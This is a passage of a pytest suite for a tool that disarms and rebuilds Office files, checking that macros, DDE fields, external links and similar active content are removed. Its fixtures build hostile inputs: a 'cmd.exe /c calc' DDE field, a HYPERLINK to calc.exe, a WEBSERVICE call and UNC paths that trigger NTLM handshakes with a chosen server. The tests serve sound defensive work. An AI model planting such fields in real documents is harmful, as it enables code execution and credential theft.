"""OOXML rebuild: every hostile sample loses exactly its active content, the rest survives."""
from __future__ import annotations

import dataclasses
import io
import os
import re
import shutil
import struct
import subprocess
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from cdr.detect import detect
from cdr.formats._deflate import deflate_raw
from cdr.formats.ooxml import inspect_ooxml, ooxml_text, rebuild_ooxml
from cdr.formats.ooxml import parts as X
from cdr.formats.ooxml.package import Rebuild
from cdr.handler import Context
from cdr.pipeline import process
from cdr.policy import Limits, Policy
from samples.office_samples import (
    DDE_RESULT,
    EXTERNAL_BOOK,
    JA_TITLE,
    ONLINE_VIDEO_BLIP,
    PASSWORD,
    RUBY_TEXT,
    XML_MAP_BOUND,
    XML_MAP_OUTSIDE_SCHEMAS,
    XML_MAP_SCHEMAS,
    chart_reading_another_book,
    make_docx,
    patch,
)

from .conftest import all_threat_ids, sanitize_report

FAMILY = "ooxml"


@pytest.fixture(scope="module")
def ooxml_corpus(corpus):
    return corpus(FAMILY)


@pytest.fixture(scope="module")
def results(ooxml_corpus, default_policy, tmp_path_factory):
    """Every sample through the real pipeline once: path -> (Sample, FileResult)."""
    base, samples = ooxml_corpus
    out = tmp_path_factory.mktemp("ooxml-out")
    done = {}
    for rel, s in samples.items():
        r = process(base / rel, Path(rel).name, out / Path(rel).parent.name, default_policy, password=s.password,
                    want_text=True)
        done[rel] = (s, r)
    return done


def _ctx(tmp_path: Path, **options) -> Context:
    return Context(name="t", options={"metadata": "keep", "hyperlinks": "web", **options}, limits=Limits(),
                   workdir=tmp_path, password=None)


def _zip(path: str | Path) -> zipfile.ZipFile:
    return zipfile.ZipFile(path)


def _read(path: str | Path, name: str) -> str:
    with _zip(path) as z:
        return z.read(name).decode("utf-8")


# ------------------------------------------------------------------ verdicts and threat ids

def test_every_sample_gets_its_verdict_and_threat_ids(results):
    bad = []
    for rel, (s, r) in results.items():
        ids = {t.id for t in r.threats}
        if r.verdict != s.verdict or not set(s.threats) <= ids:
            bad.append((rel, r.verdict, sorted(ids), r.reason))
    assert not bad, bad
    assert sum(1 for s, _ in results.values() if s.verdict == "sanitized") >= 15


def test_outputs_reinspect_clean_and_are_plain_ooxml(results, tmp_path):
    for rel, (_s, r) in results.items():
        if r.verdict == "blocked":
            assert r.output is None
            continue
        out = Path(r.output)
        assert inspect_ooxml(_ctx(tmp_path), out) == [], rel
        det = detect(out)
        assert det.family == "ooxml" and "macroEnabled" not in det.mime, (rel, det.mime)
        assert out.suffix in (".docx", ".xlsx", ".pptx"), out
        assert all(t.action in ("removed", "neutralized", "converted", "reported") for t in r.threats), rel


def test_macro_enabled_come_out_plain(results):
    for rel, ext in (("vba.docm", ".docx"), ("vba.xlsm", ".xlsx"), ("vba.pptm", ".pptx"),
                     ("xlm_auto_open.xlsm", ".xlsx")):
        _s, r = results[f"ooxml/hostile/{rel}"]
        assert Path(r.output).suffix == ext
        with _zip(r.output) as z:
            names = " ".join(z.namelist()).lower()
            ct = z.read("[Content_Types].xml").decode()
        assert "vbaproject" not in names and "macroenabled" not in ct.lower() and "vbaProject" not in ct


# ------------------------------------------------------------------ what is kept where something was removed

def test_text_is_kept_minus_removed_parts(results, ooxml_corpus):
    base, _ = ooxml_corpus
    for rel, (_s, r) in results.items():
        if r.verdict == "blocked" or rel.endswith("encrypted.docx"):
            continue
        before = ooxml_text(base / rel)
        after = Path(r.text_output).read_text("utf-8")
        if "xlm_auto_open" in rel:
            before = before.replace("--- シート: Macro1 ---\n", "")
        assert after == before, rel
        assert "令和6年度" in after or "集計表" in after or "埋め込み" in after, rel


def test_encrypted_with_password_is_decrypted_and_rebuilt(results, ooxml_corpus):
    base, _ = ooxml_corpus
    _s, r = results["ooxml/hostile/encrypted.docx"]
    assert open(r.output, "rb").read(4) == b"PK\x03\x04"
    assert Path(r.text_output).read_text("utf-8") == ooxml_text(base / "ooxml/benign/notice.docx")
    _s, r = results["ooxml/hostile/encrypted_nopass.docx"]
    assert "パスワード" in r.reason and "password" in r.reason


def test_ole_object_keeps_preview_picture(results):
    _s, r = results["ooxml/hostile/ole_object.docx"]
    doc = _read(r.output, "word/document.xml")
    assert "OLEObject" not in doc and 'v:imagedata r:id="rIdPrev"' in doc
    with _zip(r.output) as z:
        assert "word/media/ole_preview.png" in z.namelist()
        assert not any("embeddings" in n for n in z.namelist())
    _s, r = results["ooxml/hostile/ole_object.pptx"]
    slide = _read(r.output, "ppt/slides/slide1.xml")
    assert "oleObj" not in slide and "graphicFrame" not in slide and "<p:pic>" in slide and "a:blip r:embed" in slide


def test_dde_field_keeps_displayed_result(results):
    _s, r = results["ooxml/hostile/ddeauto.docx"]
    doc = _read(r.output, "word/document.xml")
    assert DDE_RESULT in doc and "DDEAUTO" not in doc and "instrText" not in doc and "fldChar" not in doc


def test_formulas_become_cached_values(results):
    _s, r = results["ooxml/hostile/external_link.xlsx"]
    sheet = _read(r.output, "xl/worksheets/sheet1.xml")
    assert re.search(r'<c r="A10"><v>42</v></c>', sheet)
    assert "externalReferences" not in _read(r.output, "xl/workbook.xml")
    _s, r = results["ooxml/hostile/webservice.xlsx"]
    sheet = _read(r.output, "xl/worksheets/sheet1.xml")
    assert "WEBSERVICE" not in sheet and '<c r="A11" t="inlineStr"><is><t>応答</t></is></c>' in sheet
    _s, r = results["ooxml/hostile/dde_formula.xlsx"]
    assert "cmd|" not in _read(r.output, "xl/worksheets/sheet1.xml")
    # Ordinary formulas elsewhere keep formula and cached value.
    assert re.search(r"<f>B2/C2</f><v>2.4</v>", sheet)


def test_xlm_sheet_and_auto_open_name_removed(results):
    _s, r = results["ooxml/hostile/xlm_auto_open.xlsm"]
    wb = _read(r.output, "xl/workbook.xml")
    assert "Auto_Open" not in wb and "Macro1" not in wb and "人口計" in wb
    with _zip(r.output) as z:
        assert not any("macrosheet" in n for n in z.namelist())


def test_hyperlinks_only_web_survive(results):
    _s, r = results["ooxml/hostile/hyperlinks.docx"]
    rels = _read(r.output, "word/_rels/document.xml.rels")
    assert "https://www.city.example.lg.jp/" in rels and "file:" not in rels and "javascript" not in rels
    assert "市のサイト" in _read(r.output, "word/document.xml")
    _s, r = results["ooxml/hostile/ppaction_program.pptx"]
    assert "ppaction://program" not in _read(r.output, "ppt/slides/slide1.xml")


def test_external_references_removed(results):
    _s, r = results["ooxml/hostile/linked_picture.docx"]
    doc = _read(r.output, "word/document.xml")
    assert "r:link" not in doc and "a:blip r:embed" in doc
    _s, r = results["ooxml/hostile/remote_template.docx"]
    assert "attachedTemplate" not in _read(r.output, "word/settings.xml")
    with _zip(r.output) as z:
        assert "word/_rels/settings.xml.rels" not in z.namelist()
    for name in ("activex.docx", "alt_chunk.docx", "custom_ui.docx"):
        _s, r = results[f"ooxml/hostile/{name}"]
        with _zip(r.output) as z:
            names = z.namelist()
            doc = z.read("word/document.xml").decode()
        assert not any(k in n for n in names for k in ("activeX", "afchunk", "customUI")), names
        assert "w:control" not in doc and "altChunk" not in doc


# ------------------------------------------------------------------ fidelity of benign files

def test_benign_keep_images_charts_formulas_and_japanese(results):
    _s, r = results["ooxml/benign/population.xlsx"]
    assert r.verdict == "clean"
    with _zip(r.output) as z:
        names = z.namelist()
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "xl/charts/chart1.xml" in names and "xl/drawings/drawing1.xml" in names
    assert "<f>SUM(B2:B4)</f><v>29500</v>" in sheet and "dataValidation" in sheet and "conditionalFormatting" in sheet
    _s, r = results["ooxml/benign/briefing.pptx"]
    with _zip(r.output) as z:
        names = z.namelist()
    assert "ppt/charts/chart1.xml" in names and any(n.startswith("ppt/embeddings/") and n.endswith(".xlsx")
                                                    for n in names)
    assert any(n.startswith("ppt/media/") for n in names)
    _s, r = results["ooxml/benign/notice.docx"]
    with _zip(r.output) as z:
        names = z.namelist()
        doc = z.read("word/document.xml").decode()
    assert any(n.startswith("word/media/") for n in names) and "word/comments.xml" in names
    assert JA_TITLE in doc and f"<w:t>{RUBY_TEXT}</w:t>" in doc
    assert any(n.startswith("word/header") for n in names)
    # Document properties (author, company) are not carried over by default; reported, still "clean".
    assert "docProps/core.xml" not in names and r.verdict == "clean"
    meta = [t for t in r.threats if t.id == "ooxml.metadata"]
    assert meta and all(t.action == "reported" for t in meta)


def test_metadata_keep_carries_document_properties(ooxml_corpus, default_policy, tmp_path):
    base, _ = ooxml_corpus
    data = default_policy.to_dict()
    data["families"]["ooxml"]["metadata"] = "keep"
    r = process(base / "ooxml/benign/notice.docx", "notice.docx", tmp_path, Policy.from_dict(data))
    assert r.verdict == "clean" and not [t for t in r.threats if t.id == "ooxml.metadata"]
    with _zip(r.output) as z:
        assert "docProps/core.xml" in z.namelist()


def _pixels(data: bytes) -> tuple[str, tuple[int, int], bytes]:
    from PIL import Image

    with Image.open(io.BytesIO(data)) as im:
        return im.mode, im.size, im.tobytes()


def test_media_pictures_rebuilt_with_the_same_pixels(results, ooxml_corpus):
    base, _ = ooxml_corpus
    _s, r = results["ooxml/benign/notice.docx"]
    with _zip(base / "ooxml/benign/notice.docx") as a, _zip(r.output) as b:
        media = [n for n in a.namelist() if n.startswith("word/media/")]
        assert media
        for n in media:
            assert _pixels(a.read(n)) == _pixels(b.read(n))
            assert b.getinfo(n).compress_type == zipfile.ZIP_STORED  # PNG and JPEG are compressed already


@pytest.mark.parametrize("kind", ["png", "jpeg"])
def test_media_pictures_keep_nothing_of_the_senders_image_data(tmp_path, default_policy, kind):
    """Pictures in an Office file are written anew by the image family: bytes after the image, text chunks,
    EXIF (GPS) go; the pixels and a JPEG's orientation tag stay (not turned: that is the reader's affair)."""
    from PIL import Image, PngImagePlugin

    payload = b"MZ\x90\x00 hidden after the picture"
    buf = io.BytesIO()
    if kind == "jpeg":
        exif = Image.Exif()
        exif[0x0112] = 6
        exif[0x8825] = {1: "N", 2: (35.0, 41.0, 22.0)}
        Image.new("RGB", (64, 48), (20, 120, 200)).save(buf, "JPEG", quality=85, exif=exif.tobytes())
    else:
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "送信者のメモ")
        Image.new("P", (16, 16), 3).save(buf, "PNG", pnginfo=info)
    base = make_docx(tmp_path / "base.docx")
    with _zip(base) as z:
        (name,) = [n for n in z.namelist() if n.startswith("word/media/")]
    # Under the PNG's name for both: readers sniff the bytes, and so does the rebuild.
    src = patch(base, tmp_path / "pics.docx", drop={name}, add={name: buf.getvalue() + payload})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "clean", (r.reason, r.threats)
    with _zip(r.output) as b:
        new = b.read(name)
    assert payload not in new and b"Comment" not in new and b"GPS" not in new
    assert _pixels(buf.getvalue()) == _pixels(new)
    with Image.open(io.BytesIO(new)) as im:
        assert im.format == kind.upper()
        assert dict(im.getexif()) == ({0x0112: 6} if kind == "jpeg" else {})


def test_a_damaged_picture_blocks_the_document_naming_it(tmp_path, default_policy):
    base = make_docx(tmp_path / "base.docx")
    with _zip(base) as z:
        (name,) = [n for n in z.namelist() if n.startswith("word/media/")]
        data = z.read(name)
    src = patch(base, tmp_path / "cut.docx", drop={name}, add={name: data[:len(data) // 2]})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "blocked" and r.output is None
    assert f"the picture {name} in the document is damaged" in r.reason, r.reason


def test_package_is_clean_zip_with_consistent_parts(results):
    for rel, (_s, r) in results.items():
        if r.verdict == "blocked":
            continue
        data = Path(r.output).read_bytes()
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            infos = z.infolist()
            names = [i.filename for i in infos]
            assert z.comment == b"" and len(set(n.lower() for n in names)) == len(names)
            assert all(i.extra == b"" and i.comment == b"" for i in infos)
            assert names[0] == "[Content_Types].xml"
            # No bytes between members: each local header follows the previous member's data.
            pos = 0
            for i in sorted(infos, key=lambda i: i.header_offset):
                assert i.header_offset == pos, (rel, i.filename)
                nlen, elen = struct.unpack("<HH", data[pos + 26:pos + 30])
                pos += 30 + nlen + elen + i.compress_size
            ct = z.read("[Content_Types].xml").decode()
            overrides = re.findall(r'PartName="/([^"]+)"', ct)
            defaults = set(re.findall(r'Extension="([^"]+)"', ct))
            assert all(o in names for o in overrides), rel
            for n in names:
                if n != "[Content_Types].xml":
                    assert n in overrides or n.rsplit(".", 1)[-1].lower() in defaults, (rel, n)
            for n in names:
                if not n.endswith(".rels"):
                    continue
                src_dir = os.path.dirname(os.path.dirname(n))
                for target, mode in re.findall(r'Target="([^"]+)"(?: TargetMode="(\w+)")?', z.read(n).decode()):
                    if mode == "External":
                        assert target.startswith(("http://", "https://", "mailto:")), (rel, target)
                        continue
                    path = target.lstrip("/") if target.startswith("/") else os.path.normpath(
                        os.path.join(src_dir, target))
                    assert path in names, (rel, n, target)


# ------------------------------------------------------------------ policy options

def test_policy_options_metadata_drop_and_hyperlinks_drop(ooxml_corpus, default_policy, tmp_path):
    base, _ = ooxml_corpus
    data = default_policy.to_dict()
    data["families"]["ooxml"].update(metadata="drop", hyperlinks="drop")
    strict = Policy.from_dict(data)
    r = process(base / "ooxml/hostile/hyperlinks.docx", "hyperlinks.docx", tmp_path, strict)
    assert r.verdict == "sanitized"
    ids = {t.id for t in r.threats}
    assert {"ooxml.metadata", "ooxml.hyperlink"} <= ids
    with _zip(r.output) as z:
        assert "docProps/core.xml" not in z.namelist()
        # app.xml keeps only what changes how the file is read (the application's name and version).
        app = etree.fromstring(z.read("docProps/app.xml"))
        assert {etree.QName(el).localname for el in app} <= {"Application", "AppVersion"}
        assert "https://" not in z.read("word/_rels/document.xml.rels").decode()


def test_text_only_policy_delivers_text(ooxml_corpus, text_policy, tmp_path):
    base, _ = ooxml_corpus
    r = process(base / "ooxml/hostile/vba.xlsm", "vba.xlsm", tmp_path, text_policy)
    assert r.verdict == "sanitized" and r.output.endswith(".txt")
    text = Path(r.output).read_text("utf-8")
    assert "--- シート: 集計表 ---" in text and "中央区\t12000\t5000\t2.4" in text


# ------------------------------------------------------------------ crafted packages

def _docx_base(tmp_path: Path) -> Path:
    return make_docx(tmp_path / "base.docx")


def _body(fragment: str):
    return {"word/document.xml": lambda x: x.replace("<w:sectPr", fragment + "<w:sectPr", 1)}


def test_obfuscated_and_simple_dde_fields(tmp_path):
    nested = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
              '<w:r><w:instrText> "cmd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
              '<w:r><w:t>表示文字</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
              '<w:p><w:fldSimple w:instr=" dde cmd.exe &quot;/c calc&quot;"><w:r><w:t>単純</w:t></w:r></w:fldSimple></w:p>'
              '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
              '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE '
              '"http://x.example/a.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    src = patch(_docx_base(tmp_path), tmp_path / "f.docx", edit=_body(nested))
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.docx")
    ids = [t.id for t in r.threats]
    dde = [t for t in r.threats if t.id == "ooxml.dde"]
    assert len(dde) == 1 and dde[0].detail.endswith("(x2)") and "ooxml.external_relationship" in ids
    doc = _read(tmp_path / "o.docx", "word/document.xml")
    assert "表示文字" in doc and "単純" in doc and "QUOTE" not in doc and "dde" not in doc.lower()
    assert 'w:instr=" PAGE "' in doc and "INCLUDEPICTURE" not in doc
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.docx") == []
    assert _prescan_same_as_full(src, tmp_path) and not _prescan_same_as_full(tmp_path / "o.docx", tmp_path)


def test_dtd_duplicates_and_oversized_parts_block(tmp_path, default_policy):
    base = _docx_base(tmp_path)
    bomb = patch(base, tmp_path / "dtd.docx", edit={"word/document.xml": lambda x: x.replace(
        "<w:document", '<!DOCTYPE w:document [<!ENTITY a "aaaa">]><w:document', 1).replace(
        "?>\n", "?>", 1)})
    r = process(bomb, "dtd.docx", tmp_path / "o1", default_policy)
    assert r.verdict == "blocked" and "file.malformed" in {t.id for t in r.threats}

    dup = tmp_path / "dup.docx"
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(dup, "w") as zout:
        for i in zin.infolist():
            zout.writestr(i.filename, zin.read(i.filename))
        with pytest.warns(UserWarning):
            zout.writestr("word/document.xml", b"<x/>")
    r = process(dup, "dup.docx", tmp_path / "o2", default_policy)
    assert r.verdict == "blocked" and "duplicate" in r.reason_en

    small = dataclasses.replace(default_policy, limits=dataclasses.replace(default_policy.limits,
                                                                           max_xml_part_mb=0.05))
    r = process(base, "big.docx", tmp_path / "o3", small)
    assert r.verdict == "blocked" and "file.limit" in {t.id for t in r.threats}


def test_unreferenced_and_disguised_parts_removed(tmp_path):
    src = patch(_docx_base(tmp_path), tmp_path / "u.docx",
                add={"word/media/payload.exe": b"MZ\x90\x00" + b"\x00" * 100, "evil/readme.js": "WScript.Echo(1)",
                     "word/media/fake.png": b"MZ\x90\x00" + b"\x00" * 60},
                edit={"word/_rels/document.xml.rels": lambda x: x.replace(
                    "</Relationships>", '<Relationship Id="rIdFake" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/image" Target="media/fake.png"/></Relationships>')})
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.docx")
    assert [t.id for t in r.threats].count("ooxml.unknown_part") == 2
    with _zip(tmp_path / "o.docx") as z:
        assert not any(n.endswith((".exe", ".js", "fake.png")) for n in z.namelist())


def test_xlsx_dangerous_names_rules_and_hyperlink_function(tmp_path):
    from samples.office_samples import make_xlsx

    src = make_xlsx(tmp_path / "b.xlsx")
    src = patch(src, tmp_path / "x.xlsx", edit={
        "xl/workbook.xml": lambda x: x.replace("</definedNames>", '<definedName name="Auto_Open2">1</definedName>'
                                               '<definedName name="fetch">_xlfn.WEBSERVICE("http://e.example")'
                                               "</definedName></definedNames>"),
        "xl/worksheets/sheet1.xml": lambda x: x.replace("</sheetData>", '<row r="20"><c r="A20" t="str"><f>HYPERLINK('
                                                        '"file:///c:/windows/system32/calc.exe","開く")</f><v>開く</v>'
                                                        '</c><c r="B20" t="str"><f>HYPERLINK("https://www.city.'
                                                        'example.lg.jp","市")</f><v>市</v></c></row></sheetData>')})
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    ids = {t.id for t in r.threats}
    assert {"ooxml.xlm_macrosheet", "ooxml.dangerous_function", "ooxml.hyperlink"} <= ids
    sheet = _read(tmp_path / "o.xlsx", "xl/worksheets/sheet1.xml")
    assert "calc.exe" not in sheet and "開く" in sheet and 'HYPERLINK("https://www.city.example.lg.jp","市")' in sheet
    wb = _read(tmp_path / "o.xlsx", "xl/workbook.xml")
    assert "Auto_Open2" not in wb and "WEBSERVICE" not in wb and "人口計" in wb
    assert _prescan_same_as_full(src, tmp_path)


def test_web_publishing_to_a_path_of_the_senders_choice_is_removed(tmp_path, default_policy):
    """webPublishItems (a sheet) and webPublishObjects (the workbook) name a destinationFile that Excel writes
    the published page to on every save when autoRepublish is on: a UNC path is a write to (and an NTLM
    handshake with) a server the sender chose, with no relationship for the link removal to see. Removed
    from a sheet with formulas (parsed), from one without (which the rebuild would write as read) and from
    the workbook; the inspect pre-scan must not skip them either."""
    from samples.office_samples import make_xlsx

    item = ('<webPublishItems count="1"><webPublishItem id="{n}" divId="d{n}" sourceType="sheet" '
            'destinationFile="\\\\fs01.example\\公開\\p{n}.htm" autoRepublish="1"/></webPublishItems></worksheet>')
    src = patch(make_xlsx(tmp_path / "b.xlsx"), tmp_path / "w.xlsx", edit={
        "xl/worksheets/sheet1.xml": lambda x: x.replace("</worksheet>", item.format(n=1)),
        # An item outside its list (not valid, and still not kept), in a sheet otherwise written as read.
        "xl/worksheets/sheet2.xml": lambda x: x.replace("</worksheet>", item.format(n=2).replace(
            '<webPublishItems count="1">', "").replace("</webPublishItems>", "")),
        "xl/workbook.xml": lambda x: x.replace("</workbook>", '<webPublishObjects count="1"><webPublishObject id="3" '
                                               'divId="d3" destinationFile="file:///C:/Users/Public/p3.htm" '
                                               'autoRepublish="1"/></webPublishObjects></workbook>')})
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    pub = [t for t in r.threats if t.id == "ooxml.web_publish"]
    assert sorted(t.location for t in pub) == ["xl/workbook.xml", "xl/worksheets/sheet1.xml",
                                               "xl/worksheets/sheet2.xml"], r.threats
    assert any("fs01.example" in t.detail for t in pub) and all(t.action == "neutralized" for t in pub)
    with _zip(tmp_path / "o.xlsx") as z:
        for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
            out = z.read(name).decode("utf-8")
            assert "webPublish" not in out and "destinationFile" not in out, name
        assert "集計表" in z.read("xl/workbook.xml").decode("utf-8")
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
    found = _prescan_same_as_full(src, tmp_path)
    assert sum(t[0] == "ooxml.web_publish" for t in found) == 3, found
    res = process(src, "w.xlsx", tmp_path / "p", default_policy)
    assert res.verdict == "sanitized" and "ooxml.web_publish" in {t.id for t in res.threats}


def test_online_video_html_is_removed_poster_kept(tmp_path, default_policy):
    """Word's online video (wp15:webVideoPr): embeddedHtml is HTML (an iframe) that Word shows in a browser
    frame when the picture is clicked; replacing it is a known way to run a sender's page from a document.
    The element goes, the poster picture stays, and the inspect pre-scan does not skip the part."""
    src = patch(make_docx(tmp_path / "b.docx"), tmp_path / "v.docx", edit={"word/document.xml": lambda x: re.sub(
        r'<a:blip r:embed="(rId\d+)"/>', lambda m: ONLINE_VIDEO_BLIP.format(rid=m.group(1)), x, count=1)})
    with _zip(src) as z:
        assert b"webVideoPr" in z.read("word/document.xml")
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.docx")
    found = [t for t in r.threats if t.id == "ooxml.online_video"]
    assert len(found) == 1 and "203.0.113.9" in found[0].detail, r.threats
    doc = _read(tmp_path / "o.docx", "word/document.xml")
    assert "webVideoPr" not in doc and "iframe" not in doc and re.search(r'<a:blip r:embed="rId\d+"', doc)
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.docx") == []
    assert any(t[0] == "ooxml.online_video" for t in _prescan_same_as_full(src, tmp_path))
    res = process(src, "v.docx", tmp_path / "p", default_policy)
    assert res.verdict == "sanitized" and "ooxml.online_video" in {t.id for t in res.threats}


def test_xml_map_bound_to_an_address_loses_its_binding(tmp_path, default_policy):
    """An XML map (xl/xmlMaps.xml, content type application/xml) whose DataBinding names a file or web
    address: Excel loads the data from there, an outside data source like a connection. The binding goes,
    the map stays."""
    from samples.office_samples import make_xlsx

    src = patch(make_xlsx(tmp_path / "b.xlsx"), tmp_path / "m.xlsx", add={"xl/xmlMaps.xml": XML_MAP_BOUND},
                edit={"xl/_rels/workbook.xml.rels": lambda x: x.replace(
                    "</Relationships>", '<Relationship Id="rIdMap" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/xmlMaps" Target="xmlMaps.xml"/></Relationships>')})
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    found = [t for t in r.threats if t.id == "ooxml.data_connection"]
    assert len(found) == 1 and found[0].location == "xl/xmlMaps.xml" and "203.0.113.7" in found[0].detail
    maps = _read(tmp_path / "o.xlsx", "xl/xmlMaps.xml")
    assert "DataBinding" not in maps and "203.0.113.7" not in maps and 'Name="申請_Map"' in maps
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
    assert any(t[0] == "ooxml.data_connection" for t in _prescan_same_as_full(src, tmp_path))
    res = process(src, "m.xlsx", tmp_path / "p", default_policy)
    assert res.verdict == "sanitized"


_MAPS_REL = ('<Relationship Id="rIdMap" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             'xmlMaps" Target="xmlMaps.xml"/></Relationships>')


def _xml_map_workbook(tmp_path: Path, maps: str, name: str = "m.xlsx", **edit) -> Path:
    from samples.office_samples import make_xlsx

    return patch(make_xlsx(tmp_path / "b.xlsx"), tmp_path / name, add={"xl/xmlMaps.xml": maps},
                 edit={"xl/_rels/workbook.xml.rels": lambda x: x.replace("</Relationships>", _MAPS_REL), **edit})


def test_xml_map_keeps_its_schema(tmp_path, default_policy):
    """Excel needs an XML map's embedded schema to import and export the mapped cells: it stays, with the
    namespace declarations its type and element references name by prefix (they are used in attribute
    values only), the import that joins two schemas of the map by ID, and the Japanese names. The code
    before dropped every schema as markup outside the part's vocabulary, leaving maps without one."""
    src = _xml_map_workbook(tmp_path, XML_MAP_SCHEMAS.format(refs=""))
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    assert [t for t in r.threats if t.id != "ooxml.metadata"] == [], r.threats
    src_root = etree.fromstring(_read(src, "xl/xmlMaps.xml").encode())
    out_root = etree.fromstring(_read(tmp_path / "o.xlsx", "xl/xmlMaps.xml").encode())
    assert etree.tostring(out_root, method="c14n") == etree.tostring(src_root, method="c14n")
    maps = _read(tmp_path / "o.xlsx", "xl/xmlMaps.xml")
    assert 'xmlns:ns2="urn:jp:lg:common"' in maps and 'type="ns0:申請型"' in maps and 'schemaLocation="Schema2"' in maps
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
    res = process(src, "m.xlsx", tmp_path / "p", default_policy)
    assert res.verdict == "clean" and "ooxml.unknown_markup" not in {t.id for t in res.threats}, res.threats


def test_xml_map_schema_from_outside_is_cut(tmp_path, default_policy):
    """A schemaLocation that names anything but another Schema of the map (a UNC path, a web address) is
    where a schema processor would read more schema from: an import loses the location (it keeps its
    namespace), an include goes whole. The rest of the schema stays."""
    # A Schema whose ID is a file name or an address does not make that location one of the map's own.
    refs = XML_MAP_OUTSIDE_SCHEMAS + '<xsd:import namespace="urn:y" schemaLocation="y.xsd"/>'
    maps = XML_MAP_SCHEMAS.format(refs=refs).replace("</MapInfo>", '<Schema ID="y.xsd"/></MapInfo>')
    src = _xml_map_workbook(tmp_path, maps)
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    found = [t for t in r.threats if t.id == "ooxml.external_relationship"]
    assert found and {t.location for t in found} == {"xl/xmlMaps.xml"}, r.threats
    details = " ".join(t.detail for t in found)
    assert "203.0.113.9" in details
    maps = _read(tmp_path / "o.xlsx", "xl/xmlMaps.xml")
    assert "203.0.113.9" not in maps and "xsd:include" not in maps and 'schemaLocation="y.xsd"' not in maps
    assert '<xsd:import namespace="urn:x"/>' in maps and '<xsd:import namespace="urn:y"/>' in maps and 'schemaLocation="Schema2"' in maps
    assert 'name="氏名"' in maps and 'name="住所"' in maps
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
    assert any(t[0] == "ooxml.external_relationship" for t in _prescan_same_as_full(src, tmp_path))
    res = process(src, "m.xlsx", tmp_path / "p", default_policy)
    assert res.verdict == "sanitized"


def test_bibliography_style_only_by_file_name(tmp_path, default_policy):
    """Word formats citations with the XSLT a bibliography's SelectedStyle names (the standard calls it a
    path), looked up in its own style folder: a plain file name stays; a UNC path, a drive path, a way up
    or an address goes with a finding, and so does a style URI. The sources stay."""
    plain = _read(make_docx(tmp_path / "b.docx"), "customXml/item1.xml")
    assert 'SelectedStyle="/APA.XSL"' in plain  # python-docx's template: kept as it is
    r = rebuild_ooxml(_ctx(tmp_path), tmp_path / "b.docx", tmp_path / "o.docx")
    assert "ooxml.external_relationship" not in {t.id for t in r.threats}
    assert 'SelectedStyle="/APA.XSL"' in _read(tmp_path / "o.docx", "customXml/item1.xml")
    source = ('<b:Source><b:Tag>国保</b:Tag><b:SourceType>Report</b:SourceType><b:Title>国民健康保険の手引き'
              '</b:Title></b:Source>')
    for i, style in enumerate(["\\\\203.0.113.9\\s\\apa.xsl", "C:\\Users\\Public\\x.xsl", "\\..\\..\\x.xsl",
                               "http://203.0.113.9/x.xsl"]):
        src = patch(tmp_path / "b.docx", tmp_path / f"s{i}.docx", edit={"customXml/item1.xml": lambda x, st=style: x.replace(
            'SelectedStyle="/APA.XSL"', f'SelectedStyle="{st}" URI="http://203.0.113.9/style"').replace(
            'StyleName="APA"/>', f'StyleName="APA">{source}</b:Sources>')})
        r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / f"o{i}.docx")
        found = [t for t in r.threats if t.id == "ooxml.external_relationship"]
        assert found and found[0].location == "customXml/item1.xml", (style, r.threats)
        out = _read(tmp_path / f"o{i}.docx", "customXml/item1.xml")
        assert "SelectedStyle" not in out and "URI=" not in out and "国民健康保険の手引き" in out, out
        assert inspect_ooxml(_ctx(tmp_path), tmp_path / f"o{i}.docx") == []
        assert any(t[0] == "ooxml.external_relationship" for t in _prescan_same_as_full(src, tmp_path))
    assert process(src, "s.docx", tmp_path / "p", default_policy).verdict == "sanitized"


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_smart_tag_download_address_goes(tmp_path, default_policy, kind):
    """A smart tag type's url (Word settings) is where Office 2003/2007 downloads the tag's recognizer and
    actions when asked: it was kept. Now it goes with a finding; the type's name stays. Excel's smart tag
    types are outside the workbook vocabulary and go whole (as before)."""
    from samples.office_samples import make_xlsx

    url = "\\\\203.0.113.9\\share\\tags.dll"
    if kind == "docx":
        base, part = make_docx(tmp_path / "b.docx"), "word/settings.xml"
        tag = ('<w:smartTagType w:namespaceuri="urn:schemas-microsoft-com:office:smarttags" w:name="PersonName" '
